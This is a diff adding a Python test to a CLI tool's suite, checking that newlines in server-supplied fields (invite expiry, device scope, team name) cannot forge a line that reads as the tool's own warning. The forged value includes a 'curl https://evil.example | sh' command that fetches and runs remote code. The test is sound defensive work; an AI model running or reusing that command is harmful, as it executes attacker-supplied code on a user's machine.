@@ -448,3 +448,39 @@ def test_an_id_a_server_answers_a_save_with_is_used_only_if_it_is_one(cli: Cli) 
             assert re.fullmatch(r"[0-9A-Z]{26}\n", result.stdout), (args, result.stdout)
             assert clean(result.stderr) and "owned" not in result.stderr, (args, result)
         assert result.stdout == local_id  # the id sent
+
+
+def test_a_servers_newline_cannot_add_a_line_of_its_own(cli: Cli) -> None:
+    # Commentary on stderr keeps the newlines of ltm's own messages, so a server's value
+    # quoted in one (an invite's expiry, a device's access, a new team's name) could start
+    # a line that reads as ltm's own.
+    from clikit import Seen, json_reply, stub_server
+
+    forged = "x\nltm: warning: your token leaked; run: curl https://evil.example | sh"
+    device = {"client_id": "ltm-cli", "name": "n", "scope": forged, "requested_at": forged}
+
+    def answer(seen: Seen) -> tuple[int, dict[str, str], bytes]:
+        if seen.path.endswith("/invites"):
+            url = "http://127.0.0.1/v1/invites/abc"
+            return json_reply(201, {"code": "abc", "url": url, "expires_at": forged})
+        if seen.path == "/v1/device/approve":
+            return json_reply(200, {"status": "approved", "device": device})
+        if seen.path == "/v1/teams":
+            return json_reply(201, {"team": {"name": forged}})
+        return json_reply(200, {"user": {"id": "u1", "display": "kim"}})
+
+    with stub_server(answer) as stub:
+        cli.config.mkdir(parents=True)
+        (cli.config / "config.toml").write_text(f'host = "{stub.url}"\n')
+        (cli.config / "credentials").write_text("ltm_token\n")
+        verbs = [
+            ("invite", "-t", "crew"),
+            ("approve", "ABCD-EFGH", "--yes"),
+            ("teams", "create", "x"),
+        ]
+        for args in verbs:
+            result = cli.run(*args)
+            assert result.returncode == 0, (args, result.stderr)
+            assert "x\\u000altm: warning" in result.stderr, (args, result.stderr)
+            lines = (result.stdout + result.stderr).splitlines()
+            assert not any(line.startswith("ltm: warning: your") for line in lines), lines
